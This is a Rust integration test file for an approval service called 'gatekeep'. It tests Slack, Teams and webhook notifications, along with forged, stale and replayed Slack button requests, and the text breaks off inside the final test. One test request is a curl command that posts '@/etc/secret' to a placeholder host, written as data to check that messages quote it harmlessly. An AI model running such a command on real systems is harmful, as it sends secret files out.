//! Notifications end to end: a simulated agent (real mTLS gRPC) asks, the service posts to
//! a local stand-in of Slack / Teams / a webhook receiver (`support::chat`), reviewers
//! decide with signed Slack button payloads or the API, and the stand-in checks every
//! call's shape and records it.

#![expect(
    clippy::too_many_lines,
    reason = "each test is one scenario end to end, read top to bottom"
)]

mod support;

use std::{path::Path, time::Duration};

use gatekeep_proto::{
    GrantDuration,
    model::{RequestState, Verdict},
};
use gatekeep_server::{notify::NotifyConfig, store::Store as _};
use reqwest::StatusCode;
use serde_json::{Value, json};
use support::{
    Harness, answer,
    chat::{self, StandIn},
    exec_request, json_of, submit, wait_pending,
};
use uuid::Uuid;

/// The `[notify]` section the tests use, as an operator writes it.
fn notify_toml(secrets: &Path, standin: std::net::SocketAddr) -> NotifyConfig {
    std::fs::write(
        secrets.join("slack-bot-token"),
        format!("{}\n", chat::BOT_TOKEN),
    )
    .expect("test setup");
    std::fs::write(secrets.join("slack-signing-secret"), chat::SIGNING_SECRET).expect("test setup");
    std::fs::write(secrets.join("hook-key"), chat::WEBHOOK_KEY).expect("test setup");
    std::fs::write(
        secrets.join("teams-url"),
        format!("http://{standin}/teams/workflow"),
    )
    .expect("test setup");
    let dir = secrets.display();
    let text = format!(
        r#"
console_url = "https://gatekeep.example.com:7443"
[retry]
initial_ms = 50
max_ms = 2000
max_attempts = 30

[slack]
api_url = "http://{standin}/api"
bot_token = {{ file = "{dir}/slack-bot-token" }}
signing_secret = {{ file = "{dir}/slack-signing-secret" }}
team_id = "{team}"
[[slack.routes]]
policy = "ai-agents"
channel = "C0AGENTS"
[[slack.routes]]
policy = "prod-deploy"
channel = "C0PROD"
[slack.approvals]
prod-deploy = "link"
[slack.reviewers]
"alice@example.com" = ["sre"]
"carol@example.com" = ["security"]
"worker@example.com" = ["sre"]
"bob@example.com" = ["sre"]
"dave@example.com" = ["sre"]
"#,
        team = chat::TEAM,
    );
    toml::from_str(&text).unwrap_or_else(|err| panic!("notify config: {err}\n{text}"))
}

/// A Slack `block_actions` payload for a button of the message, as Slack sends it.
fn button_payload(user: &str, team: &str, action: &str, id: Uuid, duration: Option<&str>) -> Value {
    let mut state = json!({"values": {}});
    if let Some(duration) = duration {
        state["values"]["gatekeep_actions"]["gatekeep_duration"] = json!({
            "type": "static_select",
            "selected_option": {"text": {"type": "plain_text", "text": duration}, "value": duration}
        });
    }
    json!({
        "type": "block_actions",
        "user": {"id": user, "username": user.to_lowercase(), "team_id": team},
        "api_app_id": "A0GATEKEEP",
        "token": "deprecated-verification-token",
        "container": {"type": "message", "message_ts": "1700000000.000001", "channel_id": "C0AGENTS"},
        "trigger_id": "1.2.3",
        "team": {"id": team, "domain": "example"},
        "channel": {"id": "C0AGENTS", "name": "agents"},
        "message": {"ts": "1700000000.000001", "type": "message"},
        "state": state,
        "response_url": "https://hooks.slack.com/actions/T0/1/x",
        "actions": [{
            "action_id": action, "block_id": "gatekeep_actions", "type": "button",
            "value": id.to_string(), "action_ts": "1700000005.000001",
            "text": {"type": "plain_text", "text": "Approve"}
        }]
    })
}

/// Form-encodes and signs `payload` as Slack does (`secret`, at `timestamp`).
fn signed(payload: &Value, secret: &str, timestamp: i64) -> (String, String, String) {
    let body = form_urlencoded::Serializer::new(String::new())
        .append_pair("payload", &payload.to_string())
        .finish();
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, secret.as_bytes());
    let base = format!("v0:{timestamp}:{body}");
    let signature = format!(
        "v0={}",
        hex::encode(ring::hmac::sign(&key, base.as_bytes()))
    );
    (body, timestamp.to_string(), signature)
}

async fn post_interaction(
    harness: &Harness,
    (body, timestamp, signature): &(String, String, String),
) -> (StatusCode, String) {
    let response = harness
        .client(None)
        .post(harness.url("/slack/interactions"))
        .header("content-type", "application/x-www-form-urlencoded")
        .header("x-slack-request-timestamp", timestamp)
        .header("x-slack-signature", signature)
        .body(body.clone())
        .send()
        .await
        .expect("post interaction");
    let status = response.status();
    (status, response.text().await.expect("body"))
}

fn now() -> i64 {
    time::OffsetDateTime::now_utc().unix_timestamp()
}

fn for_request(id: Uuid) -> impl Fn(&Value) -> bool {
    move |body: &Value| body.to_string().contains(&id.to_string())
}

/// Where the tests leave the JSON the stand-in received (for the docs and the report).
fn examples_dir() -> std::path::PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/notify-examples");
    std::fs::create_dir_all(&dir).expect("examples dir");
    dir
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slack_button_approves_and_the_message_says_who() {
    let (standin, addr) = StandIn::start().await;
    let secrets = tempfile::tempdir().unwrap();
    let notify = notify_toml(secrets.path(), addr);
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let (link, _events) = harness.agent("web-1").await;
    let request = exec_request(&["curl", "-d", "@/etc/secret", "<!channel> https://x"]);
    let id = request.id;
    let pending = submit(&link, request);

    let posted = standin
        .wait_for("chat.postMessage", 1, for_request(id))
        .await;
    let message = &posted[0].body;
    assert_eq!(
        posted[0].headers["authorization"],
        format!("Bearer {}", chat::BOT_TOKEN)
    );
    assert_eq!(message["channel"], "C0AGENTS");
    let text = message.to_string();
    for part in [
        "web-1",
        "ai-agents",
        "Command line",
        "/usr/bin/curl",
        "worker (uid 1000)",
        "Time left",
    ] {
        assert!(text.contains(part), "the message names {part}: {text}");
    }
    // The workload's `<!channel>` is shown, not acted on: quoted in plain text, and the
    // mrkdwn fallback never carries it.
    assert!(!message["text"].as_str().unwrap().contains("<!channel>"));
    assert!(text.contains(r#"\"<!channel> https://x\""#), "{text}");
    let actions = message["blocks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["type"] == "actions")
        .expect("an actions block");
    let kinds: Vec<&str> = actions["elements"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action_id"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        [
            "gatekeep_duration",
            "gatekeep_approve",
            "gatekeep_deny",
            "gatekeep_open"
        ],
        "a duration choice (the policy allows 1h), the buttons and the console link"
    );
    assert_eq!(actions["elements"][1]["value"], id.to_string());

    // Alice presses Approve with "1h" chosen; Slack signs the request.
    let payload = button_payload("U0ALICE", chat::TEAM, "gatekeep_approve", id, Some("1h"));
    let (status, body) =
        post_interaction(&harness, &signed(&payload, chat::SIGNING_SECRET, now())).await;
    assert_eq!(status, StatusCode::OK, "{body}");

    let decision = answer(pending).await;
    assert_eq!(decision.verdict, Verdict::Allow);
    assert_eq!(decision.state, RequestState::Approved);
    assert_eq!(decision.decided_by, "alice@example.com (slack:U0ALICE)");
    assert_eq!(
        decision.duration,
        GrantDuration::For(Duration::from_hours(1))
    );

    let updated = standin.wait_for("chat.update", 1, for_request(id)).await;
    let update = &updated[0].body;
    assert_eq!(
        update["ts"],
        standin.messages("C0AGENTS")[0].ts.as_str(),
        "the ts chat.postMessage answered"
    );
    assert_eq!(update["channel"], "C0AGENTS");
    let text = update.to_string();
    assert!(text.contains("gatekeep: Approved"), "{text}");
    assert!(
        text.contains("*Approved* by alice@example.com (slack:U0ALICE)"),
        "{text}"
    );
    assert!(text.contains("(for 1h)"), "{text}");
    assert!(
        !update["blocks"]
            .as_array()
            .unwrap()
            .iter()
            .any(|b| b["type"] == "actions"),
        "a decided request has no buttons"
    );
    std::fs::write(
        examples_dir().join("slack-posted.json"),
        serde_json::to_string_pretty(message).unwrap(),
    )
    .unwrap();
    std::fs::write(
        examples_dir().join("slack-updated.json"),
        serde_json::to_string_pretty(update).unwrap(),
    )
    .unwrap();
    // Nothing more: one post, one update.
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        standin.ok_calls("chat.postMessage", for_request(id)).len(),
        1
    );
    assert_eq!(standin.ok_calls("chat.update", for_request(id)).len(), 1);
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}

/// Waits for an ephemeral message to `user` and returns its text.
async fn ephemeral_to(standin: &StandIn, user: &str, count: usize) -> String {
    let calls = standin
        .wait_for("chat.postEphemeral", count, |b| b["user"] == user)
        .await;
    calls[count - 1].body["text"]
        .as_str()
        .expect("test setup")
        .to_owned()
}

/// Presses a button (`payload`, signed now with Slack's secret): the service answers 200 and
/// tells only the presser why nothing was done. Returns that ephemeral text, and the signed
/// press (to replay it).
async fn press_refused(
    harness: &Harness,
    standin: &StandIn,
    payload: &Value,
) -> (String, (String, String, String)) {
    let user = payload["user"]["id"]
        .as_str()
        .expect("test setup")
        .to_owned();
    let heard = standin
        .ok_calls("chat.postEphemeral", |b| b["user"] == user.as_str())
        .len();
    let press = signed(payload, chat::SIGNING_SECRET, now());
    assert_eq!(post_interaction(harness, &press).await.0, StatusCode::OK);
    (ephemeral_to(standin, &user, heard + 1).await, press)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_stale_replayed_and_unmapped_slack_requests_decide_nothing() {
    let (standin, addr) = StandIn::start().await;
    let secrets = tempfile::tempdir().unwrap();
    let notify = notify_toml(secrets.path(), addr);
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let http = harness.client(None);
    let (link, _events) = harness.agent("web-1").await;
    let request = exec_request(&["curl", "https://example.org"]);
    let id = request.id;
    let pending = submit(&link, request);
    wait_pending(&http, &harness, &harness.token("alice"), id).await;
    let approve = |user: &str, team: &str| button_payload(user, team, "gatekeep_approve", id, None);

    // Wrong signing secret.
    let forged = signed(&approve("U0ALICE", chat::TEAM), "not-the-secret", now());
    let (status, body) = post_interaction(&harness, &forged).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(body.contains("does not match"), "{body}");
    // A body changed after signing.
    let (good_body, ts, sig) = signed(&approve("U0ALICE", chat::TEAM), chat::SIGNING_SECRET, now());
    let tampered = (good_body.replace("U0ALICE", "U0CAROL"), ts, sig);
    assert_eq!(
        post_interaction(&harness, &tampered).await.0,
        StatusCode::UNAUTHORIZED
    );
    // Stale: signed correctly six minutes ago.
    let stale = signed(
        &approve("U0ALICE", chat::TEAM),
        chat::SIGNING_SECRET,
        now() - 360,
    );
    let (status, body) = post_interaction(&harness, &stale).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(body.contains("more than 5 minutes"), "{body}");

    // Unmapped: a confirmed email no reviewer has.
    let (text, mallory) =
        press_refused(&harness, &standin, &approve("U0MALLORY", chat::TEAM)).await;
    assert!(
        text.contains("mallory@elsewhere.example is not a gatekeep reviewer"),
        "{text}"
    );
    // The same request again: a replay, refused before anything else.
    let (status, body) = post_interaction(&harness, &mallory).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(body.contains("replay"), "{body}");
    // Another workspace.
    let (text, _) = press_refused(&harness, &standin, &approve("U0ALICE", "T0ELSEWHERE")).await;
    assert!(text.contains("workspace"), "{text}");
    // An email Slack has not confirmed.
    let (text, _) = press_refused(&harness, &standin, &approve("U0UNCONFIRMED", chat::TEAM)).await;
    assert!(text.contains("no confirmed email"), "{text}");
    // The rules of every surface: carol is not in the policy's group `sre`.
    let (text, _) = press_refused(&harness, &standin, &approve("U0CAROL", chat::TEAM)).await;
    assert!(
        text.contains("is not in a reviewer group of policy `ai-agents`"),
        "{text}"
    );
    // ... and nobody approves their own workload: worker@ is the workload's user `worker`.
    let (text, _) = press_refused(&harness, &standin, &approve("U0WORKER", chat::TEAM)).await;
    assert!(text.contains("cannot approve its own request"), "{text}");

    // Still pending after all that; then a real approval goes through.
    let (status, body) = json_of(
        http.get(harness.url(&format!("/api/v1/requests/{id}")))
            .bearer_auth(harness.token("alice"))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["request"]["state"], "pending", "{body}");
    let alice = signed(&approve("U0ALICE", chat::TEAM), chat::SIGNING_SECRET, now());
    assert_eq!(post_interaction(&harness, &alice).await.0, StatusCode::OK);
    assert_eq!(answer(pending).await.verdict, Verdict::Allow);
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slack_outage_delays_notices_but_never_a_decision_and_loses_none() {
    // Slack is down: nothing listens on its address yet.
    let standin = StandIn::default();
    let addr = StandIn::free_addr();
    let secrets = tempfile::tempdir().unwrap();
    let notify = notify_toml(secrets.path(), addr);
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let http = harness.client(None);
    let (link, _events) = harness.agent("web-1").await;
    let first = exec_request(&["curl", "https://one.example"]);
    let second = exec_request(&["curl", "https://two.example"]);
    let (first_id, second_id) = (first.id, second.id);
    let first_answer = submit(&link, first);
    let second_answer = submit(&link, second);
    wait_pending(&http, &harness, &harness.token("alice"), first_id).await;
    wait_pending(&http, &harness, &harness.token("alice"), second_id).await;

    // Decided from the API while Slack is down: the agent hears at once.
    let (status, body) = json_of(
        http.post(harness.url(&format!("/api/v1/requests/{first_id}/decision")))
            .bearer_auth(harness.token("alice"))
            .json(&json!({"verdict": "allow", "reason": "while slack was down"}))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(answer(first_answer).await.verdict, Verdict::Allow);

    // Slack comes back, answering 500 twice and then 429 (Retry-After: 1) once.
    standin.fail("chat.postMessage", 2, 1);
    standin.serve_on(addr).await;
    let posted = standin
        .wait_for("chat.postMessage", 1, for_request(first_id))
        .await;
    let text = posted[0].body.to_string();
    assert!(
        text.contains("*Approved* by alice"),
        "the late message shows the outcome: {text}"
    );
    standin
        .wait_for("chat.postMessage", 1, for_request(second_id))
        .await;
    let failed: Vec<u16> = standin
        .calls()
        .iter()
        .filter(|c| c.method == "chat.postMessage" && c.status != 200)
        .map(|c| c.status)
        .collect();
    assert_eq!(failed, [500, 500, 429], "the failures were retried");

    // The second request is decided now, with Slack up: one update.
    let (status, _) = json_of(
        http.post(harness.url(&format!("/api/v1/requests/{second_id}/decision")))
            .bearer_auth(harness.token("bob"))
            .json(&json!({"verdict": "deny", "reason": "no"}))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(answer(second_answer).await.verdict, Verdict::Deny);
    let updated = standin
        .wait_for("chat.update", 1, for_request(second_id))
        .await;
    assert!(updated[0].body.to_string().contains("*Denied* by bob"));

    // Exactly once each: the first message was posted once (already decided, so never
    // updated), the second posted once and updated once.
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        standin
            .ok_calls("chat.postMessage", for_request(first_id))
            .len(),
        1
    );
    assert_eq!(
        standin.ok_calls("chat.update", for_request(first_id)).len(),
        0
    );
    assert_eq!(
        standin
            .ok_calls("chat.postMessage", for_request(second_id))
            .len(),
        1
    );
    assert_eq!(
        standin
            .ok_calls("chat.update", for_request(second_id))
            .len(),
        1
    );
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}

/// Calls the HTTP API as `reviewer` and expects 200.
async fn api_post(harness: &Harness, reviewer: &str, path: &str, body: Value) -> Value {
    let (status, body) = json_of(
        harness
            .client(None)
            .post(harness.url(path))
            .bearer_auth(harness.token(reviewer))
            .json(&body)
            .send()
            .await
            .expect("test setup"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{path}: {body}");
    body
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn webhooks_are_signed_retried_once_each_and_teams_gets_cards() {
    let (standin, addr) = StandIn::start().await;
    let secrets = tempfile::tempdir().unwrap();
    let dir = secrets.path().display().to_string();
    let extra = format!(
        r#"
[teams]
workflow_url = {{ file = "{dir}/teams-url" }}
[[webhook]]
name = "siem"
url = "http://{addr}/hooks/siem"
secret = {{ file = "{dir}/hook-key" }}
[[webhook]]
name = "refuser"
url = "http://{addr}/hooks/refuser"
secret = {{ file = "{dir}/hook-key" }}
events = ["request.requested"]
"#
    );
    let notify = notify_toml(secrets.path(), addr);
    let extra: NotifyConfig = toml::from_str(&extra).expect("extra notify config");
    let notify = NotifyConfig {
        teams: extra.teams,
        webhook: extra.webhook,
        ..notify
    };
    // The receiver fails its first delivery with a 500, then a 429 with Retry-After: 1.
    standin.fail("hook:siem", 1, 1);
    standin.refuse("hook:refuser");
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let http = harness.client(None);
    let (link, _events) = harness.agent("web-1").await;

    // Approved for an hour (a grant), then the grant revoked.
    let approved = exec_request(&["curl", "https://one.example"]);
    let approved_id = approved.id;
    let approved_answer = submit(&link, approved);
    wait_pending(&http, &harness, &harness.token("alice"), approved_id).await;
    let record = api_post(
        &harness,
        "alice",
        &format!("/api/v1/requests/{approved_id}/decision"),
        json!({"verdict": "allow", "duration": "1h", "reason": "deploy window"}),
    )
    .await;
    assert_eq!(answer(approved_answer).await.verdict, Verdict::Allow);
    let grant_id = record["decision"]["grant"]["id"]
        .as_str()
        .expect("a grant")
        .to_owned();
    api_post(
        &harness,
        "alice",
        &format!("/api/v1/grants/{grant_id}/revoke"),
        json!({"reason": "window closed"}),
    )
    .await;
    // Cancelled.
    let cancelled = exec_request(&["curl", "https://two.example"]);
    let cancelled_id = cancelled.id;
    let cancelled_answer = submit(&link, cancelled);
    wait_pending(&http, &harness, &harness.token("alice"), cancelled_id).await;
    api_post(
        &harness,
        "alice",
        &format!("/api/v1/requests/{cancelled_id}/cancel"),
        json!({"reason": "not now"}),
    )
    .await;
    assert_eq!(
        answer(cancelled_answer).await.state,
        RequestState::Cancelled
    );
    // Expired: nobody decides within its second.
    let mut expiring = exec_request(&["curl", "https://three.example"]);
    expiring.deadline = time::OffsetDateTime::now_utc() + time::Duration::seconds(1);
    let expiring_id = expiring.id;
    assert_eq!(
        answer(submit(&link, expiring)).await.state,
        RequestState::Expired
    );

    let expected = [
        format!("{approved_id}.requested"),
        format!("{approved_id}.decided"),
        format!("{grant_id}.created"),
        format!("{grant_id}.revoked"),
        format!("{cancelled_id}.requested"),
        format!("{cancelled_id}.cancelled"),
        format!("{expiring_id}.requested"),
        format!("{expiring_id}.expired"),
    ];
    let delivered = standin
        .wait_for("hook:siem", expected.len(), |_| true)
        .await;
    let mut ids: Vec<String> = delivered
        .iter()
        .map(|c| c.body["id"].as_str().unwrap().to_owned())
        .collect();
    ids.sort();
    let mut want = expected.to_vec();
    want.sort();
    assert_eq!(ids, want, "every event, each delivered once");
    let statuses: Vec<u16> = standin
        .calls()
        .iter()
        .filter(|c| c.method == "hook:siem" && c.status >= 300)
        .map(|c| c.status)
        .collect();
    assert_eq!(statuses, [500, 429], "the first delivery was retried");
    let types: Vec<&str> = delivered
        .iter()
        .map(|c| c.body["type"].as_str().unwrap())
        .collect();
    for kind in [
        "request.requested",
        "request.decided",
        "request.expired",
        "request.cancelled",
        "grant.created",
        "grant.revoked",
    ] {
        assert!(types.contains(&kind), "{kind} in {types:?}");
    }
    let decided = delivered
        .iter()
        .find(|c| c.body["type"] == "request.decided")
        .unwrap();
    assert_eq!(decided.body["request"]["decision"]["decided_by"], "alice");
    assert_eq!(
        decided.headers["x-gatekeep-event-id"],
        format!("{approved_id}.decided")
    );
    std::fs::write(
        examples_dir().join("webhook-decided.json"),
        serde_json::to_string_pretty(&json!({
            "headers": {
                "x-gatekeep-event-id": decided.headers["x-gatekeep-event-id"],
                "x-gatekeep-timestamp": decided.headers["x-gatekeep-timestamp"],
                "x-gatekeep-signature": decided.headers["x-gatekeep-signature"],
            },
            "body": decided.body,
        }))
        .unwrap(),
    )
    .unwrap();

    // Slack's messages say how each request ended: updated, or (a request that ended
    // before its post went out) posted showing it already.
    for (id, outcome) in [
        (cancelled_id, "gatekeep: Cancelled"),
        (expiring_id, "gatekeep: Expired"),
    ] {
        let shows = move |b: &Value| for_request(id)(b) && b.to_string().contains(outcome);
        let started = std::time::Instant::now();
        while standin.ok_calls("chat.update", shows).is_empty()
            && standin.ok_calls("chat.postMessage", shows).is_empty()
        {
            assert!(
                started.elapsed() < support::PATIENCE,
                "no message of {id} says {outcome}: {:#?}",
                standin.calls()
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        let messages = standin
            .messages("C0AGENTS")
            .into_iter()
            .filter(|m| {
                m.metadata
                    .as_ref()
                    .is_some_and(|meta| meta["event_payload"]["request_id"] == id.to_string())
            })
            .count();
        assert_eq!(messages, 1, "one message for {id}");
    }

    // Teams: a card per request and one per outcome, each once.
    let cards = standin.wait_for("teams", 6, |_| true).await;
    let approved_cards: Vec<&Value> = cards
        .iter()
        .map(|c| &c.body)
        .filter(|b| for_request(approved_id)(b))
        .collect();
    assert_eq!(approved_cards.len(), 2, "{approved_cards:#?}");
    let card = &approved_cards[0]["attachments"][0]["content"];
    assert_eq!(card["actions"][0]["type"], "Action.OpenUrl");
    assert_eq!(
        card["actions"][0]["url"],
        format!("https://gatekeep.example.com:7443/console/#/request/{approved_id}")
    );
    let text = approved_cards[0].to_string();
    assert!(
        text.contains("web\\\\-1") || text.contains("web-1"),
        "{text}"
    );
    std::fs::write(
        examples_dir().join("teams-card.json"),
        serde_json::to_string_pretty(approved_cards[0]).unwrap(),
    )
    .unwrap();

    // The refusing receiver: its deliveries are dead letters, not retried forever.
    let start = std::time::Instant::now();
    let letters = loop {
        let conn = rusqlite::Connection::open(harness.data_dir().join("state.db")).unwrap();
        let letters: Vec<(String, String, String, u32)> = conn
            .prepare("SELECT sink, key, error, attempts FROM dead_letters ORDER BY id")
            .unwrap()
            .query_map([], |row| {
                Ok((row.get(0)?, row.get(1)?, row.get(2)?, row.get(3)?))
            })
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        if letters.len() >= 3 {
            break letters;
        }
        assert!(
            start.elapsed() < support::PATIENCE,
            "dead letters: {letters:?}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    for (sink, key, error, attempts) in &letters {
        assert_eq!(sink, "webhook:refuser");
        // The delivery's key: `REQUEST_ID EVENT CHANNEL`.
        assert!(key.ends_with(" requested webhook:refuser"), "{key}");
        assert!(error.contains("400"), "{error}");
        assert_eq!(*attempts, 1, "a 400 is final: no retry");
    }
    assert_eq!(
        standin
            .calls()
            .iter()
            .filter(|c| c.method == "hook:refuser")
            .count(),
        3
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        standin.ok_calls("hook:siem", |_| true).len(),
        expected.len(),
        "no duplicates"
    );
    assert_eq!(
        standin.ok_calls("teams", |_| true).len(),
        6,
        "no duplicate cards"
    );
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_quorum_of_two_is_reached_from_slack_one_person_once() {
    let (standin, addr) = StandIn::start().await;
    let secrets = tempfile::tempdir().unwrap();
    let notify = notify_toml(secrets.path(), addr);
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let (link, _events) = harness.agent("web-1").await;
    let mut request = exec_request(&["curl", "https://quorum.example"]);
    request.approval.approvals_required = 2;
    let id = request.id;
    let pending = submit(&link, request);
    standin
        .wait_for("chat.postMessage", 1, for_request(id))
        .await;
    let approve = |user: &str| button_payload(user, chat::TEAM, "gatekeep_approve", id, None);

    // Two seconds back: her second press below (signed at `now()`) can never carry the
    // same timestamp, which would make it the same signed request, a replay.
    let alice = signed(&approve("U0ALICE"), chat::SIGNING_SECRET, now() - 2);
    assert_eq!(post_interaction(&harness, &alice).await.0, StatusCode::OK);
    let updated = standin
        .wait_for("chat.update", 1, |b| {
            for_request(id)(b) && b.to_string().contains("1 of 2 approvals")
        })
        .await;
    assert!(
        updated[0]
            .body
            .to_string()
            .contains("approved by alice@example.com (slack:U0ALICE)"),
        "the vote so far is shown"
    );
    // Alice again (a new press, so a new signature): her vote counts once.
    let (text, _) = press_refused(&harness, &standin, &approve("U0ALICE")).await;
    assert!(text.contains("already approved"), "{text}");

    let bob = signed(&approve("U0BOB"), chat::SIGNING_SECRET, now());
    assert_eq!(post_interaction(&harness, &bob).await.0, StatusCode::OK);
    let decision = answer(pending).await;
    assert_eq!(decision.verdict, Verdict::Allow);
    assert_eq!(
        decision.decided_by,
        "alice@example.com (slack:U0ALICE),bob@example.com (slack:U0BOB)"
    );
    let finals = standin
        .wait_for("chat.update", 1, |b| {
            for_request(id)(b) && b.to_string().contains("*Approved* by")
        })
        .await;
    assert!(finals[0].body.to_string().contains("2 of 2 approvals"));
    assert_eq!(
        standin.ok_calls("chat.postMessage", for_request(id)).len(),
        1
    );
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn link_mode_policies_link_to_the_console_and_refuse_buttons() {
    let (standin, addr) = StandIn::start().await;
    let secrets = tempfile::tempdir().unwrap();
    let notify = notify_toml(secrets.path(), addr);
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let (link, _events) = harness.agent("web-1").await;
    let mut request = exec_request(&["kubectl", "rollout", "restart", "deploy/api"]);
    request.policy = "prod-deploy".into();
    let id = request.id;
    let pending = submit(&link, request);
    let posted = standin
        .wait_for("chat.postMessage", 1, for_request(id))
        .await;
    let message = &posted[0].body;
    assert_eq!(message["channel"], "C0PROD");
    let actions = message["blocks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["type"] == "actions")
        .expect("an actions block");
    assert_eq!(
        actions["elements"],
        json!([{
            "type": "button", "action_id": "gatekeep_open", "style": "primary",
            "text": {"type": "plain_text", "text": "Review in console"},
            "url": format!("https://gatekeep.example.com:7443/console/#/request/{id}")
        }]),
        "only a console link"
    );
    // A button payload for it anyway (signed: e.g. an old message) decides nothing.
    let payload = button_payload("U0ALICE", chat::TEAM, "gatekeep_approve", id, None);
    let (text, _) = press_refused(&harness, &standin, &payload).await;
    assert!(text.contains("decided in the console only"), "{text}");
    // The console (here its API) decides it; Slack's message follows.
    api_post(
        &harness,
        "alice",
        &format!("/api/v1/requests/{id}/decision"),
        json!({"verdict": "deny", "reason": "not during the freeze"}),
    )
    .await;
    assert_eq!(answer(pending).await.verdict, Verdict::Deny);
    let updated = standin.wait_for("chat.update", 1, for_request(id)).await;
    let text = updated[0].body.to_string();
    assert!(text.contains("*Denied* by alice"), "{text}");
    assert!(text.contains("Reason: not during the freeze"), "{text}");
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_slack_button_cannot_approve_where_the_policy_requires_a_reason() {
    let (standin, addr) = StandIn::start().await;
    let secrets = tempfile::tempdir().unwrap();
    let notify = notify_toml(secrets.path(), addr);
    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
    let (link, _events) = harness.agent("web-1").await;
    let mut request = exec_request(&["terraform", "apply"]);
    request.approval.require_reason = true;
    let id = request.id;
    let pending = submit(&link, request);
    let posted = standin
        .wait_for("chat.postMessage", 1, for_request(id))
        .await;
    let message = posted[0].body.to_string();
    assert!(
        message.contains("Policy ai-agents requires a reason to approve"),
        "the message says where to approve: {message}"
    );

    // Approve: refused ephemerally (a button carries no reason), nothing recorded.
    let approve = button_payload("U0ALICE", chat::TEAM, "gatekeep_approve", id, None);
    let (text, _) = press_refused(&harness, &standin, &approve).await;
    assert!(
        text.contains("policy `ai-agents` requires a reason for approvals")
            && text.contains("console")
            && text.contains("nothing was done"),
        "{text}"
    );
    let (_, detail) = json_of(
        harness
            .client(None)
            .get(harness.url(&format!("/api/v1/requests/{id}")))
            .bearer_auth(harness.token("alice"))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(detail["request"]["state"], "pending", "{detail}");
    assert_eq!(detail["request"]["approvals"], json!([]), "{detail}");

    // Deny still works from Slack.
    let deny = button_payload("U0ALICE", chat::TEAM, "gatekeep_deny", id, None);
    let (status, _) =
        post_interaction(&harness, &signed(&deny, chat::SIGNING_SECRET, now() - 1)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(answer(pending).await.verdict, Verdict::Deny);
    assert_eq!(standin.violations(), Vec::<String>::new());
    harness.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_webhook_that_falls_far_behind_catches_up_and_loses_nothing() {
    // More changes than the hub keeps for a reader (4096) arrive while the receiver is
    // down and the sink's queue holds one: its feed lags, then catches up from the store.
    const REQUESTS: usize = 4400;
    let standin = StandIn::default();
    let addr = StandIn::free_addr();
    let secrets = tempfile::tempdir().unwrap();
    std::fs::write(secrets.path().join("hook-key"), chat::WEBHOOK_KEY).unwrap();
    let text = format!(
        r#"
synchronous = "normal"
[[rules]]
name = "deny-everything"
action = "deny"
[notify]
queue = 1
[notify.retry]
initial_ms = 20
max_ms = 200
max_attempts = 100000
[[notify.webhook]]
name = "siem"
url = "http://{addr}/hooks/siem"
secret = {{ file = "{}/hook-key" }}
events = ["request.decided"]
"#,
        secrets.path().display()
    );
    let parsed =
        gatekeep_server::ServerConfig::parse(Path::new("test.toml"), &text).expect("config");
    let mut harness = Harness::start_with(|config, _| {
        config.synchronous = parsed.synchronous;
        config.rules = parsed.rules;
        config.notify = parsed.notify;
    })
    .await;
    let (link, _events) = harness.agent("web-1").await;
    let mut ids = Vec::with_capacity(REQUESTS);
    let mut answers = Vec::with_capacity(REQUESTS);
    for n in 0..REQUESTS {
        let request = exec_request(&["curl", &format!("https://{n}.example")]);
        ids.push(format!("{}.decided", request.id));
        answers.push(submit(&link, request));
    }
    let submitted = std::time::Instant::now();
    for handle in answers {
        assert_eq!(answer(handle).await.verdict, Verdict::Deny);
    }
    println!("{REQUESTS} decided in {:?}", submitted.elapsed());
    // Every decision was made and delivered to the agent while the receiver was down.
    standin.serve_on(addr).await;
    let start = std::time::Instant::now();
    let delivered = loop {
        let delivered = standin.ok_calls("hook:siem", |_| true);
